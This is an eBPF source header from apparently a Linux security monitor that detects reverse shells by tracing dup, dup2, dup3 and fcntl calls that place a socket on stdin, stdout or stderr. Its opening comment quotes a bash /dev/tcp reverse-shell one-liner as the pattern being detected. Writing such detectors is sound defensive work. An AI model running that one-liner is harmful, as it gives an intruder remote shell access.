/* SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause) */
/*
 * fd_redirect: a socket duplicated onto stdin, stdout or stderr, the shape
 * of a reverse shell (bash -i >& /dev/tcp/host/port 0>&1). dup2, dup3,
 * fcntl(F_DUPFD*) and dup are watched; the entry filters on the arguments,
 * the exit checks that the new fd is 0, 1 or 2 and now holds a socket.
 * Programs of network.bpf.c, which includes this file once.
 */
#pragma once

#include "common.bpf.h"
#include "blob.bpf.h"
#include "network.h"
#include "sock.h"
#include "track.h"

#define F_DUPFD 0
#define F_DUPFD_CLOEXEC 1030

/* args: old fd, new fd (for fcntl the lowest acceptable new fd) */
static __always_inline void begin_dup(enum net_syscall sc, long oldfd, long newfd)
{
	/* dup2(fd, fd) is a no-op; fcntl(fd, F_DUPFD, fd) is not */
	if ((unsigned long)newfd > 2 || (oldfd == newfd && sc != NET_SYS_FCNTL) ||
	    !traced(current_task()))
		return;
	struct pending p = {.syscall = sc, .args = {oldfd, newfd}};
	begin(&p, KIND_FD_REDIRECT);
}

static __always_inline void report_dup(enum net_syscall sc, long ret)
{
	struct pending *p = finish(sc);
	if (!p)
		return;
	if (ret < 0 || ret > 2)
		goto out;

	struct sock *sk = fd_sock(ret);
	if (!sk || !family_wanted(sk->__sk_common.skc_family))
		goto out;
	struct net_info *n = net_start(KIND_FD_REDIRECT, sc);
	struct blob *b = blob_get();
	__u16 tail = 0;
	if (!n || !b)
		goto out;
	n->ret = ret;
	n->fd = p->args[0];
	n->new_fd = ret;
	read_sock(n, sk);
	if (n->family == AF_UNIX) {
		tail = tail_peer_path(b, sk);
		n->flags |= NET_TAIL_UNIX_PEER;
	}
	net_emit(n, b, tail);
out:
	forget(p);
}

SEC("tracepoint/syscalls/sys_enter_dup2")
int enter_dup2(struct trace_event_raw_sys_enter *ctx)
{
	begin_dup(NET_SYS_DUP2, ctx->args[0], ctx->args[1]);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_dup2")
int exit_dup2(struct trace_event_raw_sys_exit *ctx)
{
	report_dup(NET_SYS_DUP2, ctx->ret);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_dup3")
int enter_dup3(struct trace_event_raw_sys_enter *ctx)
{
	begin_dup(NET_SYS_DUP3, ctx->args[0], ctx->args[1]);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_dup3")
int exit_dup3(struct trace_event_raw_sys_exit *ctx)
{
	report_dup(NET_SYS_DUP3, ctx->ret);
	return 0;
}

/* fcntl(fd, cmd, arg): F_DUPFD* returns the lowest free fd >= arg. */
SEC("tracepoint/syscalls/sys_enter_fcntl")
int enter_fcntl(struct trace_event_raw_sys_enter *ctx)
{
	long cmd = ctx->args[1];

	if (cmd == F_DUPFD || cmd == F_DUPFD_CLOEXEC)
		begin_dup(NET_SYS_FCNTL, ctx->args[0], ctx->args[2]);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_fcntl")
int exit_fcntl(struct trace_event_raw_sys_exit *ctx)
{
	report_dup(NET_SYS_FCNTL, ctx->ret);
	return 0;
}

/* dup(fd) returns the lowest free fd: 0, 1 or 2 once one of them is
 * closed. Only sockets are remembered. */
SEC("tracepoint/syscalls/sys_enter_dup")
int enter_dup(struct trace_event_raw_sys_enter *ctx)
{
	struct task_struct *task = current_task();
	long fd = ctx->args[0];

	if (!fd_sock(fd) || !traced(task))
		return 0;
	struct pending p = {.syscall = NET_SYS_DUP, .args = {fd}};
	begin(&p, KIND_FD_REDIRECT);
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_dup")
int exit_dup(struct trace_event_raw_sys_exit *ctx)
{
	report_dup(NET_SYS_DUP, ctx->ret);
	return 0;
}
